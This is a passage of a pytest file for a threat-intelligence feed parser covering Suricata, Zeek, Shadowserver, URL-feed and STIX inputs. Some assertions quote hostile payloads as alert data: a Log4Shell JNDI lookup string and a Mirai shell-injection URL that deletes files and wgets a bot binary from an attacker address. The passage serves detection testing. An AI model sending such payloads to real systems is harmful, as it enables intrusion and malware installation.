"""The feed parsers (monitoring.parsers): each fixture of tests/fixtures/monitoring parsed into
normalized events with concrete values, broken records rejected with their line and reason
without stopping the rest, the registry, the shared normalizers, and property tests that the
line parsers never raise on arbitrary input."""

from __future__ import annotations

import dataclasses
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fenghuo.monitoring.events import Event, Rejected
from fenghuo.monitoring.parsers import FORMATS, get_format
from fenghuo.monitoring.parsers import common as c
from fenghuo.monitoring.parsers.cve import cvss_severity
from fenghuo.monitoring.parsers.stix import Unsupported, pattern_observables
from fenghuo.monitoring.parsers.suricata import alert_kind, malware_family
from fenghuo.monitoring.parsers.zeek_notice import note_kind
from fenghuo.monitoring.rules import KINDS

FIXTURES = Path(__file__).parents[2] / "fixtures" / "monitoring"
NOW = datetime(2026, 12, 1, 4, 0, tzinfo=UTC)


def _split(out: list[Event | Rejected]) -> tuple[list[Event], list[Rejected]]:
    events = [x for x in out if isinstance(x, Event)]
    rejects = [x for x in out if isinstance(x, Rejected)]
    assert len(events) + len(rejects) == len(out)
    for event in events:  # the schema's promises hold for every event of every parser
        assert event.kind in KINDS
        assert event.time.tzinfo is not None and event.time.utcoffset() == timedelta(0)
        assert event.raw
        assert all(v != "" for v in (event.domain, event.url, event.signature, event.malware))
    return events, rejects


def parse_file(fmt: str, name: str, feed: str = "test-feed") -> tuple[list[Event], list[Rejected]]:
    with (FIXTURES / name).open("rb") as fp:
        return _split(list(get_format(fmt).parse(fp, feed=feed, now=NOW)))


def parse_bytes(fmt: str, data: bytes,
                feed: str = "test-feed") -> tuple[list[Event], list[Rejected]]:
    return _split(list(get_format(fmt).parse(io.BytesIO(data), feed=feed, now=NOW)))


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=UTC)


def by(events: list[Event], **fields: object) -> Event:
    found = [e for e in events if all(getattr(e, k) == v for k, v in fields.items())]
    assert len(found) == 1, (fields, found)
    return found[0]


# --- registry ----------------------------------------------------------------------------------


def test_registry_names_every_format_once():
    assert list(FORMATS) == ["suricata", "zeek-notice", "zeek-intel", "sinkhole-csv", "scan-csv",
                             "url-feed", "stix", "cve"]
    for name, fmt in FORMATS.items():
        assert fmt.name == name and get_format(name) is fmt
        assert fmt.description.isascii() and "\n" not in fmt.description and fmt.description
    with pytest.raises(dataclasses.FrozenInstanceError):
        FORMATS["stix"].name = "other"  # type: ignore[misc]


def test_get_format_rejects_an_unknown_name_naming_the_known_ones():
    with pytest.raises(ValueError, match=r"^unknown format 'snort'; expected one of suricata, "
                                         r"zeek-notice, zeek-intel, .*, cve$"):
        get_format("snort")


# --- common normalizers ------------------------------------------------------------------------


@pytest.mark.parametrize(("value", "expected"), [
    ("2001:0db8:0000:0000:0000:0000:0000:0001", "2001:db8::1"),
    ("2001:DB8::A", "2001:db8::a"),
    ("[2001:db8::1]", "2001:db8::1"),
    ("::ffff:192.0.2.1", "192.0.2.1"),
    (" 198.51.100.7 ", "198.51.100.7"),
    ("999.1.1.1", None),
    ("61.135.020.1", None),
    ("example.com", None),
    ("", None),
    (None, None),
    (17, None),
])
def test_canonical_ip(value, expected):
    assert c.canonical_ip(value) == expected


@pytest.mark.parametrize(("value", "expected"), [
    ("WWW.Example.GOV.CN.", "www.example.gov.cn"),
    ("例子.中国", "xn--fsqu00a.xn--fiqs8s"),
    ("_dmarc.example.com.cn", "_dmarc.example.com.cn"),
    ("localhost", None),
    ("61.135.169.121", None),
    ("bad domain.cn", None),
    ("a..b.cn", None),
    ("-lead.example.cn", None),
    ("1.2.3.4.5", None),
    ("x" * 64 + ".cn", None),
    (None, None),
])
def test_normalize_domain(value, expected):
    assert c.normalize_domain(value) == expected


def test_hashes_are_classified_by_length_and_hex():
    sha256 = "B94D27B9934D3E08A52E52D7DA7DABFAC484EFE37A5380EE9088F7ACE2EFCDE9"
    md5 = "5eb63bbbe01eeed093cb22bb8f5acdc3"
    assert c.hash_type(sha256) == "sha256" and c.hash_type(md5) == "md5"
    assert c.hash_type("2aae6c35c94fcfb415dbe95f408b9ce91ee846ed") == "sha1"
    assert c.hash_type("z" * 32) is None and c.hash_type("ab" * 20 + "a") is None
    assert c.normalize_hash(sha256) == sha256.lower()
    assert c.best_hash(md5, None, sha256, "junk") == sha256.lower()
    assert c.best_hash(md5, "") == md5 and c.best_hash(None) is None


@pytest.mark.parametrize(("value", "expected"), [
    ("cve-2024-3400", "CVE-2024-3400"),
    (" CVE-2021-44228 ", "CVE-2021-44228"),
    ("CVE_2017_9805", "CVE-2017-9805"),
    ("CVE-2024-123", None),
    ("CVE-24-1234", None),
    ("CVE-2024-3400x", None),
])
def test_normalize_cve(value, expected):
    assert c.normalize_cve(value) == expected


def test_find_cve_in_free_text():
    assert c.find_cve("ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)") == "CVE-2021-44228"
    assert c.find_cve("exchange;cve-2021-26855;proxylogon") == "CVE-2021-26855"
    assert c.find_cve("ET SCAN no id here") is None and c.find_cve(None) is None


@pytest.mark.parametrize(("value", "expected"), [
    ("2026-11-30T08:01:02.123456+0800", utc(2026, 11, 30, 0, 1, 2, 123456)),
    ("2026-11-30T17:05:00+08:00", utc(2026, 11, 30, 9, 5)),
    ("2026-11-30T08:00:00Z", utc(2026, 11, 30, 8)),
    ("2026-11-30 00:12:07", utc(2026, 11, 30, 0, 12, 7)),  # naive: UTC
    ("1795996862.123456", utc(2026, 11, 30, 0, 1, 2, 123456)),  # Zeek epoch, exact microseconds
    (1795996862.123456, utc(2026, 11, 30, 0, 1, 2, 123456)),
    (1795996800, utc(2026, 11, 30)),
    ("2026-13-45T99:00:00+0800", None),
    ("yesterday", None),
    ("", None),
    (True, None),
    (None, None),
])
def test_parse_time(value, expected):
    parsed = c.parse_time(value)
    assert parsed == expected
    if parsed is not None:
        assert parsed.tzinfo is UTC


def test_url_host_with_and_without_scheme():
    assert c.url_host("http://Files.Example.com.cn:8080/a?b") == "files.example.com.cn"
    assert c.url_host("login.example.cn/pc/index.html") == "login.example.cn"
    assert c.url_host("http://[2001:db8::1]:80/x") == "2001:db8::1"
    assert c.url_host("http://[2001:db8::1/x") is None and c.url_host("http://") is None
    assert c.split_host("http://x") == (None, None)
    assert c.split_host("61.135.169.121") == ("61.135.169.121", None)


@pytest.mark.parametrize(("name", "kind"), [
    ("openphish", "phishing"), ("cert-phish-domains", "phishing"),
    ("feodotracker-c2", "c2-server"), ("botnet_cc", "c2-server"),
    ("CNCERT C&C domains", "c2-server"),
    ("C2IntelFeeds", "c2-server"), ("urlhaus", "malware-distribution"),
    ("blocklist.de ssh scanners", "scanner"), ("ssh-bruteforce", "brute-force"),
    ("accounts", None), ("internal-watchlist", None),
])
def test_kind_from_name(name, kind):
    assert c.kind_from_name(name) == kind


# --- suricata ----------------------------------------------------------------------------------


def test_suricata_fixture_counts_and_rejects():
    events, rejects = parse_file("suricata", "suricata-eve.json", feed="bj-ids-01")
    assert len(events) == 18  # 16 alerts + 2 anomalies; flow/dns/http/tls/fileinfo/stats skipped
    assert [r.line_no for r in rejects] == [8, 9, 20, 21, 31]
    reasons = [r.reason for r in rejects]
    assert reasons[0].startswith("malformed JSON")
    assert reasons[1] == "invalid timestamp '2026-13-45T99:00:00+0800'"
    assert "object" in reasons[2] and reasons[3] == "missing timestamp"
    assert "src_port" in reasons[4]
    assert rejects[0].raw.startswith('{"timestamp":"2026-11-30T08:05:13')
    assert "\n" not in rejects[0].raw
    assert {e.feed for e in events} == {"bj-ids-01"}


def test_suricata_kinds_by_signature_and_category():
    events, _ = parse_file("suricata", "suricata-eve.json")
    kinds = {e.signature_id: e.kind for e in events}
    assert kinds == {
        "suricata:2030868": "infected-system", "suricata:2034647": "exploit",
        "suricata:2010935": "scanner", "suricata:anomaly:decoder.ipv4.trunc_pkt": "ids-alert",
        "suricata:2404310": "infected-system", "suricata:2101411": "scanner",
        "suricata:2027757": "ids-alert", "suricata:2027973": "infected-system",
        "suricata:2006546": "brute-force", "suricata:2014520": "infected-system",
        "suricata:2011042": "exploit", "suricata:2019010": "ddos",
        "suricata:anomaly:APPLAYER_DETECT_PROTOCOL_ONLY_ONE_DIRECTION": "ids-alert",
        "suricata:2024312": "infected-system", "suricata:2031221": "infected-system",
        "suricata:2024043": "exploit", "suricata:2038800": "infected-system",
        "suricata:2850001": "infected-system",
    }
    assert len(kinds) == len(events)  # one event per signature in the fixture


def test_suricata_emotet_alert_in_full():
    events, _ = parse_file("suricata", "suricata-eve.json", feed="bj-ids-01")
    line2 = (FIXTURES / "suricata-eve.json").read_text().splitlines()[1]
    e = by(events, signature_id="suricata:2030868")
    assert e.time == utc(2026, 11, 30, 0, 1, 2, 123456)
    assert (e.source_ip, e.source_port, e.destination_ip, e.destination_port) == (
        "10.20.3.15", 50124, "203.0.113.77", 8080)
    assert (e.protocol, e.application, e.severity) == ("tcp", "http", 1)
    assert e.domain == "update.jxkj-soft.com.cn"
    assert e.url == "http://update.jxkj-soft.com.cn/wp-content/gate.php"
    assert e.malware == "emotet" and e.cve is None
    assert e.signature == "ET MALWARE Win32/Emotet CnC Activity (POST) M4"
    assert e.description == "A Network Trojan was Detected"
    assert e.raw == line2


def test_suricata_cves_from_signature_and_metadata():
    events, _ = parse_file("suricata", "suricata-eve.json")
    log4j = by(events, signature_id="suricata:2034647")
    assert log4j.cve == "CVE-2021-44228" and log4j.source_ip == "222.186.42.117"
    assert log4j.url == "http://www.example.gov.cn/login?user=${jndi:ldap://222.186.42.117:1389/Exploit}"
    struts = by(events, signature_id="suricata:2024043")
    assert struts.cve == "CVE-2017-9805"
    assert struts.url == "http://portal.example.com.cn:8080/struts2-rest-showcase/orders/3"
    assert {e.cve for e in events} == {None, "CVE-2021-44228", "CVE-2017-9805"}


def test_suricata_malware_families():
    events, _ = parse_file("suricata", "suricata-eve.json")
    families = {e.signature_id: e.malware for e in events if e.malware}
    assert families == {"suricata:2030868": "emotet", "suricata:2027973": "mirai",
                        "suricata:2024312": "lokibot", "suricata:2038800": "qakbot",  # metadata
                        "suricata:2850001": "agenttesla"}


def test_suricata_infected_host_is_the_source():
    events, _ = parse_file("suricata", "suricata-eve.json")
    feodo = by(events, signature_id="suricata:2404310")  # a to_client packet from the C2
    assert (feodo.source_ip, feodo.source_port) == ("192.168.10.44", 49877)
    assert (feodo.destination_ip, feodo.destination_port) == ("203.0.113.9", 443)
    assert feodo.malware is None  # "Feodo Tracker Reported …" names a tracker, not a family
    dropper = by(events, signature_id="suricata:2014520")
    assert dropper.source_ip == "10.20.9.12" and dropper.destination_ip == "203.0.113.150"
    assert dropper.hash == "b94d27b9934d3e08a52e52d7da7dabfac484efe37a5380ee9088f7ace2efcde9"
    qakbot = by(events, signature_id="suricata:2038800")  # CGNAT side wins over flow.src_ip
    assert qakbot.source_ip == "100.64.12.5"
    mirai = by(events, signature_id="suricata:2027973")  # both public, client stays the source
    assert mirai.source_ip == "222.186.51.9" and mirai.domain is None
    assert mirai.url == "http://61.135.18.2/shell?cd+/tmp;rm+-rf+*;wget+http://222.186.51.9/bins/mirai.arm7"


def test_suricata_ipv6_sni_and_anomaly():
    events, _ = parse_file("suricata", "suricata-eve.json")
    v6 = by(events, signature_id="suricata:2101411")
    assert (v6.source_ip, v6.destination_ip) == ("2001:db8::42", "2001:db8:85::10")
    assert (v6.protocol, v6.application) == ("udp", "snmp")
    sni = by(events, signature_id="suricata:2031221")
    assert sni.domain == "cdn.jqx-static.cn" and sni.url is None and sni.malware is None
    anomaly = by(events, signature_id="suricata:anomaly:decoder.ipv4.trunc_pkt")
    assert anomaly.signature == "decoder.ipv4.trunc_pkt" and anomaly.description == "decode anomaly"
    assert anomaly.time == utc(2026, 11, 30, 0, 5, 12, 331200) and anomaly.severity is None


def test_suricata_bad_lines_never_stop_the_rest():
    good = (FIXTURES / "suricata-eve.json").read_bytes().splitlines()[1]
    data = b"\n".join([b"{oops", b"", b"   ", b"42", b'{"event_type":"alert"}', good,
                       b'{"timestamp":"2026-11-30T00:00:00Z","event_type":"dns","src_port":"x"}',
                       b'{"timestamp":"2026-11-30T00:00:00Z"}', good + b"\r"])
    events, rejects = parse_bytes("suricata", data)
    assert [r.line_no for r in rejects] == [1, 4, 5, 8]
    assert rejects[2].reason == "missing timestamp"
    assert rejects[3].reason == "not an EVE record: no event_type"
    assert len(events) == 2 and events[0].raw == events[1].raw == good.decode()


@pytest.mark.parametrize(("signature", "category", "kind"), [
    ("ET MALWARE Win32/Emotet CnC Activity (POST) M4", "Misc activity", "infected-system"),
    ("GPL TROJAN something", "A Network Trojan was detected", "infected-system"),
    ("ETPRO CNC Known Hostile Domain", None, "infected-system"),
    ("ET SCAN Nmap Scripting Engine User-Agent Detected", "Web Application Attack", "scanner"),
    ("SURICATA port scan", "Detection of a Network Scan", "scanner"),
    ("ET EXPLOIT Possible CVE-2014-6271 Attempt", None, "exploit"),
    ("ET WEB_SERVER Possible XXE", "Web Application Attack", "exploit"),
    ("ET SCAN Potential SSH Brute Force", None, "brute-force"),
    ("ET DOS Inbound GoldenEye DoS attack", None, "ddos"),
    ("ET INFO Packed Executable Download", "Misc activity", "ids-alert"),
    (None, None, "ids-alert"),
])
def test_alert_kind(signature, category, kind):
    assert alert_kind(signature, category) == kind


@pytest.mark.parametrize(("signature", "family"), [
    ("ET MALWARE Win32/Emotet CnC Activity (POST) M4", "emotet"),
    ("ET MALWARE ELF/Mirai Variant User-Agent (Inbound)", "mirai"),
    ("ET MALWARE MSIL/AgentTesla Exfil Via SMTP", "agenttesla"),
    ("ET TROJAN Trickbot Checkin Response", "trickbot"),
    ("ET MALWARE Win32/Spy.Banker.AES Checkin", None),
    ("ET MALWARE Observed Cobalt Strike User-Agent", None),
    ("ET CNC Shadowserver Reported CnC Server IP group 1", None),
    ("ET CNC Feodo Tracker Reported CnC Server group 11", None),
    ("ET EXPLOIT Win32/Emotet lookalike", None),
    (None, None),
])
def test_malware_family(signature, family):
    assert malware_family(signature) == family


# --- zeek --------------------------------------------------------------------------------------


def test_zeek_notice_tsv():
    events, rejects = parse_file("zeek-notice", "zeek-notice.log", feed="bj-zeek-01")
    assert [(r.line_no, r.reason) for r in rejects] == [(16, "expected 26 Zeek fields, found 4")]
    assert [e.signature_id for e in events] == [
        "zeek:Scan::Port_Scan", "zeek:Scan::Address_Scan", "zeek:SSH::Password_Guessing",
        "zeek:SSL::Invalid_Server_Cert", "zeek:HTTP::SQL_Injection_Victim",
        "zeek:Software::Vulnerable_Version", "zeek:Scan::Port_Scan",
        "zeek:Heartbleed::SSL_Heartbeat_Attack"]  # CaptureLoss::Too_Much_Loss is skipped
    assert [e.kind for e in events] == ["scanner", "scanner", "brute-force", "other", "exploit",
                                        "vulnerable-service", "scanner", "exploit"]
    port_scan, address_scan, guessing, cert, victim, software, v6, heartbleed = events
    assert port_scan.time == utc(2026, 11, 30, 0, 0, 2, 512733)
    assert (port_scan.source_ip, port_scan.destination_ip) == ("222.186.42.117", "61.135.169.121")
    assert port_scan.description == "remote" and port_scan.protocol is None
    assert (address_scan.source_ip, address_scan.destination_ip) == ("198.51.100.23", None)
    assert (address_scan.destination_port, address_scan.protocol) == (445, "tcp")
    assert guessing.source_ip == "117.136.8.20" and guessing.signature.startswith("117.136.8.20 ")
    assert (cert.source_ip, cert.source_port, cert.destination_ip, cert.destination_port) == (
        "10.20.3.40", 51890, "39.156.66.18", 443)
    assert cert.description == "CN=www.example.com.cn,O=Example Co, Ltd.,C=CN"  # \x2c unescaped
    assert (victim.source_ip, victim.destination_ip) == (None, "39.156.69.79")
    assert software.source_ip == "61.135.169.125" and software.description == "OpenSSH_7.4"
    assert (v6.source_ip, v6.destination_ip) == ("2001:db8::99", "2001:db8:85::10")
    assert (heartbleed.source_port, heartbleed.destination_port) == (48812, 443)
    assert {e.feed for e in events} == {"bj-zeek-01"}


def test_zeek_notice_json():
    events, rejects = parse_file("zeek-notice", "zeek-notice.json")
    assert [r.line_no for r in rejects] == [4, 6, 7]
    assert rejects[0].reason.startswith("malformed JSON")
    assert rejects[1].reason == "not a JSON object"
    assert rejects[2].reason == "missing or invalid ts 'yesterday'"
    assert [e.signature_id for e in events] == [  # PacketFilter::Dropped_Packets is skipped
        "zeek:Scan::Port_Scan", "zeek:SSH::Login_By_Password_Guesser",
        "zeek:SSL::Certificate_Expired", "zeek:Scan::Address_Scan"]
    guesser = events[1]
    assert guesser.kind == "brute-force" and guesser.time == utc(2026, 11, 30, 0, 21, 40, 250000)
    assert (guesser.source_ip, guesser.source_port, guesser.destination_port) == (
        "198.51.100.61", 40022, 22)
    expired = events[2]  # ISO ts with an offset, nested "id" object
    assert expired.time == utc(2026, 11, 30, 9, 5) and expired.kind == "other"
    assert (expired.source_ip, expired.source_port) == ("10.20.9.12", 50400)
    assert events[3].source_ip == "2001:db8::99" and events[3].destination_port == 3389


def test_zeek_intel_tsv():
    events, rejects = parse_file("zeek-intel", "zeek-intel.log")
    assert [(r.line_no, r.reason) for r in rejects] == [
        (16, "invalid Intel::ADDR indicator '999.1.1.1'"), (17, "expected 15 Zeek fields, found 3")]
    c2, dns, phish, payload, scanner, watch, v6 = events
    assert c2.kind == "infected-system" and c2.time == utc(2026, 11, 30, 0, 1, 2, 123456)
    assert (c2.source_ip, c2.source_port, c2.destination_ip, c2.destination_port) == (
        "10.20.3.15", 50124, "203.0.113.77", 8080)
    assert c2.signature == "abuse.ch Feodo Tracker C2 IP blocklist"
    assert c2.description == "Intel::ADDR 203.0.113.77 seen in Conn::IN_RESP"
    assert (dns.kind, dns.source_ip, dns.destination_ip) == ("infected-system", "10.20.3.16", None)
    assert dns.domain == "update.jxkj-soft.com.cn"
    assert (phish.kind, phish.source_ip, phish.destination_ip) == (
        "phishing", "39.156.69.200", "10.20.7.81")
    assert (phish.url, phish.domain) == ("login.icbc-verify.com.cn/pc/index.html",
                                         "login.icbc-verify.com.cn")
    assert payload.kind == "malware-distribution" and payload.source_ip == "203.0.113.150"
    assert payload.hash == "b94d27b9934d3e08a52e52d7da7dabfac484efe37a5380ee9088f7ace2efcde9"
    assert (scanner.kind, scanner.source_ip, scanner.destination_port) == (
        "scanner", "198.51.100.23", 22)
    assert scanner.signature == "blocklist.de ssh scanners, Shadowserver scanners"
    assert (watch.kind, watch.source_ip, watch.domain) == (
        "ids-alert", "10.20.7.90", "telemetry.vendor-cdn.com")
    assert (v6.source_ip, v6.destination_ip) == ("2001:db8:0:1::15", "2001:db8::dead:beef")


def test_zeek_intel_json():
    events, rejects = parse_file("zeek-intel", "zeek-intel.json")
    assert [(r.line_no, r.reason.split(":")[0]) for r in rejects] == [
        (5, "malformed JSON"), (6, "intel hit without seen.indicator")]
    assert [e.kind for e in events] == ["infected-system", "infected-system", "phishing",
                                        "ids-alert"]
    assert events[0].source_ip == "192.168.10.44" and events[0].destination_ip == "203.0.113.9"
    assert events[1].domain == "cdn.jqx-static.cn"
    assert events[2].url == "http://pay.example-bank.com.cn/verify/login.php"
    assert events[2].source_ip == "61.135.169.200"
    assert events[3].domain == "xn--fsqu00a.xn--fiqs8s"


def test_zeek_tsv_header_handling():
    data = (b"1795996800.0\tx\n#separator \\x2c\n#set_separator,;\n#unset_field,-\n"
            b"#fields,ts,note,src,msg\n#types,time,enum,addr,string\n"
            b"1795996800.5,Scan::Port_Scan,198.51.100.9,a\\x2cb\n#close,2026\n")
    events, rejects = parse_bytes("zeek-notice", data)
    assert [(r.line_no, r.reason) for r in rejects] == [
        (1, "Zeek TSV record before any #fields line")]
    assert events[0].source_ip == "198.51.100.9" and events[0].signature == "a,b"
    assert events[0].time == utc(2026, 11, 30, 0, 0, 0, 500000)


@pytest.mark.parametrize(("note", "kind"), [
    ("Scan::Port_Scan", "scanner"), ("SSH::Password_Guessing", "brute-force"),
    ("SSL::Invalid_Server_Cert", "other"), ("SSL::Weak_Key", "other"),
    ("CaptureLoss::Too_Much_Loss", None), ("PacketFilter::Dropped_Packets", None),
    ("Intel::Notice", "ids-alert"), ("Site::Custom_Thing", "ids-alert"),
])
def test_note_kind(note, kind):
    assert note_kind(note) == kind


# --- shadowserver reports ----------------------------------------------------------------------


def test_sinkhole_events():
    events, rejects = parse_file("sinkhole-csv", "sinkhole-events.csv")
    assert [(r.line_no, r.reason) for r in rejects] == [
        (6, "missing or invalid src_ip '61.135.20'"), (7, "missing or invalid timestamp ''"),
        (8, "expected 30 CSV fields, found 4")]
    assert rejects[2].raw == '"2026-11-30 00:40:00","tcp","117.136.22.3","51111"'
    assert {e.kind for e in events} == {"infected-system"}
    assert [e.malware for e in events] == ["andromeda", "conficker", "ramnit", "mirai", "gamut"]
    first = events[0]
    assert first.time == utc(2026, 11, 30, 0, 12, 7)
    assert (first.source_ip, first.source_port, first.source_asn) == ("61.135.20.17", 49211, 4808)
    assert (first.destination_ip, first.destination_port) == ("198.51.100.50", 80)
    assert (first.protocol, first.application, first.domain) == ("tcp", "http", "kdjwqxnb.com")
    assert first.description == "infection: andromeda; host: 17.20.135.61.static.bjtelecom.net"
    assert events[1].malware == "conficker" and events[1].signature == "conficker-b"  # no family
    assert events[2].source_ip == "2001:db8:4006:812::200e"
    assert events[2].time == utc(2026, 11, 30, 0, 20, 33)
    assert events[3].description == "infection: mirai; device: Hikvision camera DS-2CD2032"


def test_scan_rdp_open_services():
    events, rejects = parse_file("scan-csv", "scan-rdp.csv")
    assert [(r.line_no, r.reason) for r in rejects] == [
        (5, "missing or invalid ip '117.136.90.256'")]
    assert {e.kind for e in events} == {"open-service"} and {e.cve for e in events} == {None}
    assert [e.source_port for e in events] == [3389, 13389, 3389, 3389]
    assert {e.destination_port for e in events} == {None}
    assert [e.application for e in events] == ["rdp", None, "rdp", "rdp"]
    assert [e.severity for e in events] == [2, 2, 1, 2]
    assert events[2].source_ip == "2001:db8::ff00:42:8329"
    assert events[0].description == "host: 77.169.135.61.static.bjtelecom.net"
    assert events[0].source_asn == 4808 and events[0].time == utc(2026, 11, 30, 2, 10, 44)


def test_scan_vulnerable_http():
    events, rejects = parse_file("scan-csv", "scan-vulnerable-http.csv")
    assert [(r.line_no, r.reason) for r in rejects] == [
        (7, "missing or invalid timestamp '30/11/2026 03:06'")]
    assert [(e.kind, e.cve) for e in events] == [
        ("vulnerable-service", "CVE-2021-44228"), ("vulnerable-service", "CVE-2021-26855"),
        ("vulnerable-service", "CVE-2023-46805"), ("open-service", None),
        ("vulnerable-service", "CVE-2018-13379")]
    assert events[4].source_ip == "2001:db8::1234:1" and events[4].source_port == 10443
    assert [e.severity for e in events] == [1, 1, 1, 3, 1]
    assert events[1].application == "https" and events[1].signature.startswith("exchange;")


def test_scan_cve_column_comes_before_the_tag():
    data = (b"timestamp,ip,protocol,port,hostname,tag,asn,geo,cve\n"
            b"2026-11-30 01:00:00,39.156.1.2,tcp,11211,,memcached,9808,CN,cve-2018-1000115\n"
            b"2026-11-30 01:00:01,39.156.1.3,udp,11211,,memcached,9808,CN,\n")
    events, rejects = parse_bytes("scan-csv", data)
    assert not rejects
    assert [(e.kind, e.cve, e.application) for e in events] == [
        ("vulnerable-service", "CVE-2018-1000115", "memcached"),
        ("open-service", None, "memcached")]


# --- url feeds ---------------------------------------------------------------------------------


def test_urlhaus_csv_with_the_header_in_a_comment():
    events, rejects = parse_file("url-feed", "urlhaus.csv", feed="cert-phish-mirror")
    assert [(r.line_no, r.reason) for r in rejects] == [
        (15, "no valid URL host, domain or address"), (16, "invalid dateadded 'yesterday'"),
        (18, "expected 9 CSV fields, found 3")]
    # the threat column decides, not the feed's name
    assert {e.kind for e in events} == {"malware-distribution"} and len(events) == 6
    first = events[0]
    assert first.time == utc(2026, 11, 30, 7, 58, 6)
    assert (first.url, first.source_ip, first.domain) == (
        "http://117.136.12.34:45678/i", "117.136.12.34", None)
    assert first.signature == "32-bit,elf,mips,Mozi" and first.description == "status: online"
    assert events[1].domain == "files.jx-download.com.cn" and events[1].source_ip is None
    assert events[2].source_ip == "2001:db8::bad:cafe"
    assert events[4].domain == "xn--fsqu00a.xn--fiqs8s"
    assert events[5].url == "https://cdn.jqx-static.cn/s/loader.ps1"


def test_plain_phishing_list():
    events, rejects = parse_file("url-feed", "phishing-domains.txt", feed="cert-phish-domains")
    assert [(r.line_no, r.raw) for r in rejects] == [
        (10, "not a domain"), (12, "hxxp://defanged[.]example[.]com")]
    assert {e.kind for e in events} == {"phishing"} and {e.time for e in events} == {NOW}
    assert [(e.domain, e.url, e.source_ip) for e in events] == [
        ("icbc-verify.com.cn", None, None), ("www.95588-service.cn", None, None),
        ("login.example-bank.com", None, None),
        ("secure-ccb.com", "http://secure-ccb.com/login.html", None),
        ("gov-bt.cn", "https://gov-bt.cn/tax/refund.php", None),
        ("xn--fsqu00a.xn--fiqs8s", None, None), (None, None, "61.135.169.200")]


@pytest.mark.parametrize(("feed", "kind"), [
    ("openphish", "phishing"), ("cncert-c2-domains", "c2-server"), ("botnet-cc", "c2-server"),
    ("blocklist", "malware-distribution"), ("accounts", "malware-distribution"),
])
def test_plain_list_kind_comes_from_the_feed_name(feed, kind):
    events, _ = parse_bytes("url-feed", b"bad.example.cn\n", feed=feed)
    assert [e.kind for e in events] == [kind]


def test_csv_feeds_by_header_names():
    phish = (b"url,brand,first_seen\r\n"
             b"https://icbc-verify.com.cn/login,ICBC,2026-11-29T10:00:00+08:00\r\n"
             b"https://ccb-security.cn/,CCB,\r\n")
    events, rejects = parse_bytes("url-feed", phish, feed="openphish")
    assert not rejects
    assert [(e.kind, e.signature, e.time) for e in events] == [
        ("phishing", "ICBC", utc(2026, 11, 29, 2)), ("phishing", "CCB", NOW)]
    feodo = (b"# Feodo Tracker style\n"
             b"first_seen_utc,dst_ip,dst_port,c2_status,last_online,malware\n"
             b'"2026-11-28 04:00:00","203.0.113.77",8080,"online","2026-11-30","Emotet"\n'
             b'"2026-11-28 05:00:00","","",offline,"","QakBot"\n')
    events, rejects = parse_bytes("url-feed", feodo, feed="feodotracker")
    assert [(r.line_no, r.reason) for r in rejects] == [(4, "no valid URL host, domain or address")]
    e = events[0]
    assert (e.kind, e.source_ip, e.source_port, e.malware) == ("c2-server", "203.0.113.77", 8080,
                                                               "emotet")
    assert e.description == "status: online" and e.time == utc(2026, 11, 28, 4)
    threat = b"domain,threat\nbad.example.com.cn,phishing\nc2.example.cn,botnet_cc\n"
    events, _ = parse_bytes("url-feed", threat, feed="mixed")
    assert [e.kind for e in events] == ["phishing", "c2-server"]


def test_url_feed_default_now_is_the_parse_time():
    before = datetime.now(UTC)
    [event] = list(get_format("url-feed").parse(io.BytesIO(b"x.example.cn\n"), feed="f"))
    assert before <= event.time <= datetime.now(UTC)


# --- stix --------------------------------------------------------------------------------------


def test_stix_bundle_indicators_and_sightings():
    events, rejects = parse_file("stix", "stix-bundle.json")
    assert [r.line_no for r in rejects] == [9, 10, 12, 16, 17]
    assert "negated comparison" in rejects[0].reason
    assert "AND not supported" in rejects[1].reason
    assert "pattern_type 'snort'" in rejects[2].reason
    assert "not of an indicator in this bundle" in rejects[3].reason
    assert "negated comparison" in rejects[4].reason and rejects[4].reason.startswith("sighting")
    assert [e.kind for e in events] == [
        "c2-server", "phishing", "malware-distribution", "malware-distribution",
        "malware-distribution", "scanner", "scanner", "infected-system", "c2-server", "phishing"]
    assert not any(e.domain == "www.example.gov.cn" for e in events)  # benign: skipped
    c2 = events[0]
    assert (c2.source_ip, c2.malware, c2.confidence) == ("203.0.113.77", "emotet", 85)
    assert c2.time == utc(2026, 11, 29, 16) and c2.signature == "Emotet epoch 5 C2 server"
    assert events[1].domain == "icbc-verify.com.cn"
    assert (events[2].url, events[2].source_ip) == ("http://222.186.51.9/bins/mirai.arm7",
                                                    "222.186.51.9")
    assert [events[3].hash, events[4].hash] == [
        "b94d27b9934d3e08a52e52d7da7dabfac484efe37a5380ee9088f7ace2efcde9",
        "5eb63bbbe01eeed093cb22bb8f5acdc3"]
    assert [events[5].source_ip, events[6].source_ip] == ["198.51.100.23", "2001:db8::23"]
    assert events[7].time == utc(2026, 11, 29, 17)  # valid_from with +08:00
    seen = events[8]
    assert seen.time == utc(2026, 11, 30, 1, 45, 10) and seen.confidence == 90
    assert seen.description == "sighting of Emotet epoch 5 C2 server, 12 times, by Beijing CERT"
    assert seen.raw.startswith('{"type":"sighting"')
    phish_seen = events[9]  # first_seen when there is no last_seen; the indicator's confidence
    assert phish_seen.time == utc(2026, 11, 30, 2, 20) and phish_seen.confidence == 70


@pytest.mark.parametrize("data", [b"{not json", b'{"type":"bundle"}', b"[]",
                                  b'{"type":"indicator","objects":[]}'])
def test_stix_malformed_bundle_is_one_reject(data):
    events, rejects = parse_bytes("stix", data)
    assert events == [] and len(rejects) == 1 and rejects[0].line_no == 1
    assert rejects[0].raw == data.decode()


def test_stix_objects_that_are_not_objects_are_rejected_alone():
    bundle = {"type": "bundle", "id": "bundle--1", "objects": [
        "junk", {"type": "indicator", "id": "indicator--x", "pattern": "[domain-name:value = "
                 "'a.example.cn']", "pattern_type": "stix", "valid_from": "2026-11-30T00:00:00Z"},
        {"type": "indicator", "id": ["odd"], "pattern": "[url:value = 'x']"},
        {"type": "sighting", "sighting_of_ref": ["odd"]}]}
    events, rejects = parse_bytes("stix", json.dumps(bundle).encode())
    assert [e.domain for e in events] == ["a.example.cn"]
    assert [r.line_no for r in rejects] == [1, 3, 4]


@pytest.mark.parametrize(("pattern", "expected"), [
    ("[ipv4-addr:value = '198.51.100.1']", [("ip", "198.51.100.1")]),
    ("[ipv6-addr:value = '2001:0db8::0001']", [("ip", "2001:db8::1")]),
    ("[domain-name:value = 'A.Example.CN'] OR [url:value = 'http://b.example.cn/x']",
     [("domain", "a.example.cn"), ("url", "http://b.example.cn/x")]),
